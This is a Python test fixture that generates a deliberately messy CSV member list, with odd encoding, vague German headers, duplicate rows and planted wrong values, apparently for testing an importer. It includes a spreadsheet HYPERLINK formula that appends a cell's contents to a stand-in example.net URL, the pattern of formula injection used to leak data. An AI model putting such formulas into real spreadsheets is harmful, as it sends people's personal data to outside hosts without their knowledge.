"""A spreadsheet as groups have them: typed by many hands, exported by an old program."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass

TITLE = ["Liste vom Marktplatz, Stand März"]
# Of two columns nobody can tell from the header what they are.
HEADER = [
    "Bemerkung", "Land", "Konto", "Nachname", "E-Mail (privat)", "Unsere Nummer", "Vorname",
    "Dabei?",
]  # fmt: skip
FIRST = "Jörg Zoë Ásta Hélène Gül Peter Ana Marek Ilse Tom".split()
LAST = "Müller Größe Nuñez Lefèvre Öztürk Demo Ångström Weiß Berg Šimić".split()
PLACES = ["Deutschland", "DE-BE", "Österreich", "France", "Niederlande"]
FORMULA = '=HYPERLINK("https://example.net/?"&D4;"Klick")'


@dataclass(frozen=True)
class Sheet:
    """The bytes of a file, and what has to be found in it."""

    content: bytes
    new: int
    twice: int
    wrong: int


def messy(rows: int) -> Sheet:
    """So many rows, of which some are wrong and some stand there twice."""
    lines: list[list[str]] = []
    wrong = twice = 0
    for number in range(rows):
        if number % 40 == 39:
            lines.append(lines[-10])
            twice += 1
            continue
        line = _somebody(number)
        if number % 50 == 7:
            at, text = FAULTS[number // 50 % len(FAULTS)]
            line[at] = text
            wrong += 1
        lines.append(line)
    written = io.StringIO()
    csv.writer(written, delimiter=";").writerows([TITLE, HEADER, *lines])
    content = written.getvalue().encode("cp1252", errors="replace")
    return Sheet(content, rows - twice - wrong, twice, wrong)


# A column, and what cannot stand in it.
FAULTS = [(4, "no address"), (1, "Atlantis"), (5, "1,00E+09"), (7, "nein"), (4, "a@b@c")]


def _somebody(number: int) -> list[str]:
    first, last = FIRST[number % 10], LAST[number // 10 % 10]
    return [
        FORMULA if number % 25 == 0 else "",
        PLACES[number % 5],
        f"@person{number}",
        last.upper() if number % 9 == 0 else last,
        f" Person{number}@Example.ORG ",
        f"M-{number:04}",
        first,
        "ja",
    ]
